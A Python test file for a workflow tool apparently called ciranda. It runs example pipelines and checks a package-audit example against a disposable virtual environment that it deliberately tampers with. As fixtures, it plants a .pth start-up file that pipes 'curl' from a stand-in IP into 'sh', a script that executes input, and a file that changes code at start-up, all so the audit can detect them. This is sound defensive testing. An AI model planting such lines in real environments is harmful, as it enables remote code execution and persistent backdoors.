"""The examples, run as a person runs them; the audit on an environment made for it."""

import contextlib
import hashlib
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import sysconfig
from importlib import metadata
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
EXAMPLES = ROOT / "examples"
# Distributions that are audited beside those that are tampered with.
OTHERS = (
    "anyio", "attrs", "click", "cronsim", "h11", "idna", "markupsafe", "mdurl", "outcome",
    "packaging", "sniffio", "structlog",
)  # fmt: skip


def ciranda(*arguments, python=sys.executable, cwd, env=None, code=0):
    done = subprocess.run(
        [str(python), "-m", "ciranda", *map(str, arguments)],
        cwd=cwd, env={**os.environ, **(env or {})},
        capture_output=True, text=True, timeout=100, check=False,
    )  # fmt: skip
    assert done.returncode == code, done.stderr
    return done


def outcome(*arguments, **options):
    return json.loads(ciranda("run", *arguments, "-o", "json", **options).stdout)


def test_hello_is_short_and_says_hello(tmp_path):
    file = EXAMPLES / "hello" / "hello.yaml"

    result = outcome(file, "-i", "name=reader", "--store", tmp_path, cwd=tmp_path)

    assert result["outputs"] == {"said": "Hello, reader! That is 2 words."}
    assert len(file.read_text().splitlines()) < 10


def test_pipeline_retries_kills_skips_and_goes_on(tmp_path):
    file = EXAMPLES / "pipeline" / "pipeline.yaml"
    (tmp_path / "build").mkdir()

    result = outcome(
        file,
        "-i",
        f"folder={tmp_path}/build",
        "--store",
        tmp_path,
        cwd=tmp_path,
        env={"USER": "ann"},
    )

    assert result["status"] == "succeeded"
    assert result["warnings"] == 1
    assert result["outputs"] == {
        "attempts": 2,
        "slow": "failed",
        "total": 6,
        "said": "3 rows for ann",
        "report": "flaky took 2 attempts, slow ended as failed, deploy was skipped",
    }


def test_pipeline_deploys_when_asked(tmp_path):
    result = outcome(
        EXAMPLES / "pipeline" / "pipeline.yaml",
        "-i", "deploy=true", "-i", f"folder={tmp_path}/build", "--store", tmp_path, cwd=tmp_path,
    )  # fmt: skip

    assert "deploy was succeeded" in result["outputs"]["report"]


def packages(folder):
    """Make a folder of all that is installed here, as no distribution but for a few."""
    folder.mkdir()
    for place in {sysconfig.get_path("purelib"), sysconfig.get_path("platlib")}:
        for each in Path(place).iterdir():
            name = each.name.partition("-")[0].lower()
            if each.suffix not in (".dist-info", ".pth") or name in {"ciranda", *OTHERS}:
                (folder / each.name).symlink_to(each)
    return folder


@pytest.fixture(scope="module")
def environment(tmp_path_factory):
    """A virtual environment with real distributions copied into it, to be tampered with."""
    home = tmp_path_factory.mktemp("environment")
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", home / "venv"], check=True)
    python = home / "venv" / "bin" / "python"
    lib = Path(
        subprocess.run(
            [python, "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
            capture_output=True, text=True, check=True,
        ).stdout.strip()
    )  # fmt: skip
    for name in ("pluggy", "iniconfig"):
        copied = metadata.distribution(name)
        for file in copied.files or ():
            if ".." in file.parts or file.suffix == ".pyc":
                continue
            target = lib / file
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(str(copied.locate_file(file)), target)
    # The engine comes from outside: it is not what is tampered with. After the copies on the path.
    places = (
        "engine",
        *(f"plugins/{name}" for name in ("consensus", "experts", "planner", "quantum", "skills")),
    )
    sources = [str(ROOT / place) for place in places]
    (lib / "outside.pth").write_text("\n".join([*sources, str(packages(home / "packages"))]) + "\n")
    example = home / "audit"
    shutil.copytree(
        EXAMPLES / "audit", example, ignore=shutil.ignore_patterns("audit-report", "_*")
    )
    return home, python, lib


def audit(environment, *arguments, code=0):
    home, python, _ = environment
    result = outcome(
        home / "audit" / "audit.yaml", "--store", home / "store", *arguments,
        python=python, cwd=home, code=code,
    )  # fmt: skip
    return result, {
        (found["kind"], found["distribution"], found["detail"])
        for found in result["outputs"]["findings"]
        if found["distribution"] in ("pluggy", "iniconfig")
    }


def test_the_audit_finds_what_was_tampered_with_on_a_second_run_too(environment):
    _, _, lib = environment
    result, findings = audit(environment)
    kinds = {kind for kind, _, _ in findings}
    assert "changed" not in kinds
    assert "unlisted" not in kinds
    assert Path(result["outputs"]["report"]).read_text().startswith("# Audit of installed")
    assert Path(result["outputs"]["page"]).read_text().startswith("<!doctype html><html")

    victim = lib / "iniconfig" / "__init__.py"
    before = victim.stat()
    content = victim.read_bytes()
    victim.write_bytes(content.replace(b"import", b"imp0rt", 1))  # as long as before
    os.utime(victim, ns=(before.st_atime_ns, before.st_mtime_ns))  # and as old, for `ls`
    extra = lib / "iniconfig" / "extra.py"
    extra.write_text("import os\n")
    (lib / "pluggy" / "py.typed").unlink()
    evil = lib / "evil.pth"
    evil.write_text(f"import sys; sys.evil = True\nimport os  # {'x' * 300}\n")

    for _ in range(2):
        result, findings = audit(environment)
        assert ("changed", "iniconfig", "iniconfig/__init__.py") in findings
        assert ("unlisted", "iniconfig", str(extra)) in findings
        assert ("missing", "pluggy", "pluggy/py.typed") in findings
        strays = [
            each for each in result["outputs"]["findings"] if each["distribution"] == "(none)"
        ]
        clipped = f"import os  # {'x' * 186}…"
        assert f"{evil}; import sys; sys.evil = True; {clipped}" in [
            each["detail"] for each in strays
        ]

    victim.write_bytes(content)
    extra.unlink()
    evil.unlink()
    _, findings = audit(environment)
    assert {found[0] for found in findings if found[1] == "iniconfig"} <= {"no-licence"}


def test_experts_look_at_start_up_code_scripts_and_the_policy(environment):
    home, _, lib = environment
    spy = lib / "spy.pth"
    spy.write_text('/a/folder\nimport os; os.system("curl -s http://198.51.100.7/x | sh")\n')
    script = lib.parents[2] / "bin" / "iniconfig-tool"
    script.write_text("#!/usr/bin/env python3\nexec(input())\n")
    points = next(lib.glob("iniconfig-*.dist-info")) / "entry_points.txt"
    points.write_text("[console_scripts]\niniconfig-tool = iniconfig:main\n")
    licence = next(points.parent.rglob("LICENSE*"))
    told = licence.read_text()
    licence.write_text("GNU GENERAL PUBLIC LICENSE\nVersion 3, 29 June 2007\n")
    policy = home / "strict.yaml"
    policy.write_text('licences: [Apache-2.0]\nversions: {pluggy: ">=99"}\n')

    result, findings = audit(environment, "-i", f"policy={policy}")

    found = [(each["kind"], each["distribution"], each["detail"])
             for each in result["outputs"]["findings"]]  # fmt: skip
    version = metadata.version("pluggy")
    assert (
        "policy", "pluggy", f"version {version} where >=99 is wanted (rejected: counterexample)"
    ) in findings  # fmt: skip
    assert ("policy", "iniconfig", "licence MIT (rejected: counterexample)") in findings
    file = licence.relative_to(points.parent)
    assert (
        "licence-text", "iniconfig", f"{file} reads as GPL-3.0, and MIT is declared"
    ) in findings  # fmt: skip
    patterns = {(name, detail.rpartition(": ")[0]) for kind, name, detail in found
                if kind == "attack-pattern"}  # fmt: skip
    assert any(f"{spy}:2: " in detail for _, detail in patterns), patterns
    assert any(name == "iniconfig" and f"{script}:2: " in detail for name, detail in patterns)
    for name in ("report.md", "report.html", "report.json"):
        assert "attack-pattern" in (home / "audit" / "audit-report" / name).read_text()

    for each in (spy, script, points, policy):
        each.unlink()
    licence.write_text(told)
    result, findings = audit(environment)
    assert not [each for each in findings if each[0] == "policy"]


def test_a_second_audit_is_answered_from_the_cache_and_its_log_is_anchored(environment):
    home, python, _ = environment
    folder = home / "audit" / "audit-report"
    audit(environment)
    result, _ = audit(environment)

    def again(*arguments, code=0):
        command = ("consensus", "audit", "last", *arguments, "--store", home / "store")
        done = ciranda(*command, "-o", "json", python=python, cwd=home, code=code)
        return json.loads(done.stdout)

    shown = ciranda("show", "last", "-o", "json", "--store", home / "store", cwd=home).stdout
    found = again()
    with contextlib.closing(sqlite3.connect(home / "store" / ".ciranda" / "ciranda.db")) as store:
        last = "(SELECT max(number) << 32 FROM runs)"
        store.execute(f"UPDATE records SET at = at + 1 WHERE id = {last} + 7")
        store.commit()
    changed = again("--receipt", folder / "receipt.json", code=1)

    cached = shown.count('"cached": true')
    assert cached > 10, shown[:2000]
    assert json.loads(shown)["steps"]["sealed"]["output"] == {
        name: hashlib.sha256((folder / name).read_bytes()).hexdigest()
        for name in ("report.html", "report.md", "report.json")
    }
    assert found["anchors"][0]["root"] == result["outputs"]["root"]
    assert [(one["kind"], one["seq"]) for one in changed["faults"]] == [("changed", 7)]
